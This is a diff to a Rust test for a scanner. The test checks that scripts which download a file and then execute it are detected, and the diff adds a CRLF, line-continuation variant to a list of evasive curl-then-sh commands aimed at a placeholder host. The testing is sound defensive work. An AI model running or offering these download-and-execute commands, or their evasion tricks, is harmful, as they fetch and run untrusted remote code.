@@ -42,6 +42,7 @@ fn a_download_that_is_saved_and_run_is_found_however_it_is_written() {
         "U=https://e.example; curl -o a \"$U/x\"; sh a",
         "curl -o a https://get.docker.com https://e.example/x; sh a",
         "c''url -o a https://e.example/x; /usr/bin/env bash a",
+        "curl -o a \\\r\n  https://e.example/x\r\nbash a\r\n",
     ] {
         assert_eq!(found(script).len(), 1, "{script}: {:?}", found(script));
     }
